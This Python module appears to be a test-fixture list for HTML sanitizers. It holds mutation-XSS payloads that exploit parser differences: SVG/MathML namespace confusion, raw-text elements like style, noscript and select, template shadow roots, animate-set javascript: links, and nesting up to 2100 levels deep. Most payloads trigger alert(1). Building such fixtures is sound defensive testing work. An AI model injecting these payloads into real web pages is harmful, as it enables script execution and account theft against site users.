"""Mutations: what is harmless to one parser and wakes up in the next. SVG, MathML, raw text, tables, torn tags."""

from itertools import product

# Into a foreign world, out of it by a place where HTML is allowed, and into an element that is raw text in only one

ENTRANCES = [
    "<svg>",
    "<svg><foreignObject>",
    "<svg><desc>",
    "<svg><title>",
    "<math>",
    "<math><mtext>",
    "<math><mi>",
    "<math><annotation-xml encoding=text/html>",
    "<math><mtext><mglyph>",
    "<math><mtext><table><mglyph>",
]
RAW = "style script title textarea xmp noscript noembed noframes iframe plaintext template select".split()

TORN = [
    "<{raw}><img title='</{raw}><img src onerror=alert(1)>'>",
    "<{raw}><!--</{raw}><img src onerror=alert(1)>-->",
]

# Well-known ones, as they were told about in public

KNOWN = [
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg></br><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math></br><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mtext><table><mglyph><style><![CDATA[</style><img title=']]&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title='</style><img src onerror=alert(1)>'></h1>",
    "<!-- more than one --><math><mi></mi><style><!--</style><img src onerror=alert(1)>--></style></math>",
    "<noscript><p title='</noscript><style onload=alert(1)>'>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    "<svg><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<svg><script>&#97;lert(1)</script></svg>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><use xlink:href='#x'/><a id=x xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><a xlink:href=x><set attributeName=xlink:href to=javascript:alert(1) /></a></svg>",
    "<svg><animate xlink:href=#y attributeName=href values=javascript:alert(1) /><a id=y><text>x</text></a></svg>",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>alert(1)</handler></svg>",
    "<svg><feImage href='data:image/svg+xml,x'/></svg>",
    "<svg><font-face-uri href='//kwaad.example/x'/></svg>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<svg><![CDATA[x]]><img src=x onerror=alert(1)></svg>",
    "<svg><?x ><img src=x onerror=alert(1)>?></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=application/xhtml+xml><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<p><template shadowrootmode=closed><slot onslotchange=alert(1)></slot></template></p>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<select><option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
    "<select><math><mtext><style></select><img src=x onerror=alert(1)>",
    "<table><caption><svg><title><table><caption></table><style><a title='</style><img src onerror=alert(1)>'>",
    "<table><colgroup><template><style></colgroup></table><img src=x onerror=alert(1)>",
    "<table><tr><td><svg><desc><td><style><a title='</style><img src onerror=alert(1)>'>",
    "<table><p><style></table><img src=x onerror=alert(1)></style>",
    "<a><table><a href=javascript:alert(1)>x</table></a>",
    "<a href=/x/><div><a href=javascript:alert(1)>y</a></div></a>",
    "<b><p><b><p><script>alert(1)</script></b></p>",
    "<p><b><i><u><s><a><em></p><img src=x onerror=alert(1)>",
    "<nobr><p><nobr><img src=x onerror=alert(1)>",
    "<li><p></li></ul></p><img src=x onerror=alert(1)>",
    "<dl><dt><dl></dt><img src=x onerror=alert(1)>",
    "<button><p><button><img src=x onerror=alert(1)>",
    "<frameset><frame onload=alert(1)></frameset><body onload=alert(1)>",
    "<details><summary><details><summary><svg><style></summary><img src=x onerror=alert(1)>",
    "<xmp><svg><style></xmp><img src=x onerror=alert(1)></style>",
    "<plaintext></plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<pre>&lt;img src=x onerror=alert(1)&gt;</pre>",
    "<textarea>&lt;/textarea&gt;&lt;img src=x onerror=alert(1)&gt;</textarea>",
    "<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>",
    "<iframe>&lt;/iframe&gt;&lt;img src=x onerror=alert(1)&gt;</iframe>",
    "<ruby><rt><style></rt></ruby><img src=x onerror=alert(1)>",
    "<optgroup><svg><style></optgroup><img src=x onerror=alert(1)>",
    "<keygen><svg><style></keygen><img src=x onerror=alert(1)>",
    "<x-kwaad><template><svg><style></template></x-kwaad><img src=x onerror=alert(1)>",
]

# Deep nesting: where one parser gives up, the next must not begin to see something else

DEPTHS = [64, 256, 520, 2100]
DEEP = [
    "".join(["<div>" * depth, "<svg><style><a title='</style><img src onerror=alert(1)>'>", "</div>" * depth])
    for depth in DEPTHS
] + [f"{'<math><mtext>' * depth}<img src=x onerror=alert(1)>" for depth in DEPTHS]
DEEP += [f"{'<table><tr><td>' * depth}<script>alert(1)</script><img src=x onerror=alert(1)>" for depth in DEPTHS]
DEEP += [f"{'<b><i>' * depth}<p onclick=alert(1)>x" for depth in DEPTHS]

FRAGMENTS = [
    *(entrance + torn.format(raw=raw) for entrance, torn, raw in product(ENTRANCES, TORN, RAW[:8])),
    *(torn.format(raw=raw) for torn, raw in product(TORN, RAW[8:])),
    *KNOWN,
    *DEEP,
]
